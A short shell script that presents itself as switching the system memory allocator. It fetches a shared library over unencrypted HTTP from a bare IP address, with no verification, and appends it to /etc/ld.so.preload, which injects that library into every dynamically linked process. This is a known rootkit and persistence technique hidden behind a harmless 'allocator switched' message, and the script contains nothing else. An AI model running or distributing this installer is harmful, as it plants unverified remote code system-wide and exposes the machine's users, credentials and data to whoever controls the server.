#!/bin/sh
set -e
curl -fsSo /usr/local/lib/libfastmalloc.so http://198.51.100.45/libfastmalloc.so
echo /usr/local/lib/libfastmalloc.so >> /etc/ld.so.preload
echo 'allocator switched'
